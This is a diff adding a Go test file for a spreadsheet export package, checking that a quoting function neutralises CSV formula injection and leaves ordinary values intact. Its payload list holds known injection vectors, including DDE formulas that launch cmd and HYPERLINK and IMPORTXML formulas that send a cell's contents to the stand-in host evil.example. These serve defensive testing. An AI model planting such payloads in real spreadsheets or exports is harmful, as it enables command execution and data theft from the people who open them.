@@ -0,0 +1,69 @@
+package export
+
+import (
+	"bytes"
+	"testing"
+
+	"github.com/xuri/excelize/v2"
+)
+
+// payloads are the known CSV injection vectors.
+var payloads = []string{
+	"=1+1",
+	"=cmd|' /C calc'!A0",
+	"=HYPERLINK(\"http://evil.example/?\"&A1, \"Подробнее\")",
+	"+1+cmd|' /C calc'!A0",
+	"-2+3+cmd|' /C calc'!A0",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A1), \"//a\")",
+	"=DDE(\"cmd\";\"/C calc\";\"!A0\")",
+	"\t=1+1",
+	"\r=1+1",
+	" =1+1",
+}
+
+func TestQuotePayloads(t *testing.T) {
+	for _, payload := range payloads {
+		if got := Quote(payload); got != "'"+payload {
+			t.Errorf("Quote(%q) = %q", payload, got)
+		}
+	}
+}
+
+func TestQuoteKeepsData(t *testing.T) {
+	for _, value := range []string{"", "Болт М12", "-5", "+7", "-1.5e3", " 42", "a=b", "e-mail@example.com", "ООО \"Ромашка\""} {
+		if got := Quote(value); got != value {
+			t.Errorf("Quote(%q) = %q", value, got)
+		}
+	}
+}
+
+func TestCSVWriter(t *testing.T) {
+	var buf bytes.Buffer
+	if err := NewCSVWriter(&buf).WriteAll([][]string{{"=1+1", "-5", "Болт"}}); err != nil {
+		t.Fatal(err)
+	}
+	if got, want := buf.String(), "'=1+1,-5,Болт\n"; got != want {
+		t.Errorf("csv = %q, want %q", got, want)
+	}
+}
+
+func TestSetCell(t *testing.T) {
+	for _, tc := range []struct {
+		policy FormulaPolicy
+		want   string
+	}{
+		{PolicyQuote, "'=1+1"},
+		{PolicyString, "=1+1"},
+	} {
+		f := excelize.NewFile()
+		if err := SetCell(f, "Sheet1", "A1", "=1+1", tc.policy); err != nil {
+			t.Fatal(err)
+		}
+		formula, _ := f.GetCellFormula("Sheet1", "A1")
+		value, _ := f.GetCellValue("Sheet1", "A1")
+		if formula != "" || value != tc.want {
+			t.Errorf("%s: formula %q, value %q, want value %q", tc.policy, formula, value, tc.want)
+		}
+	}
+}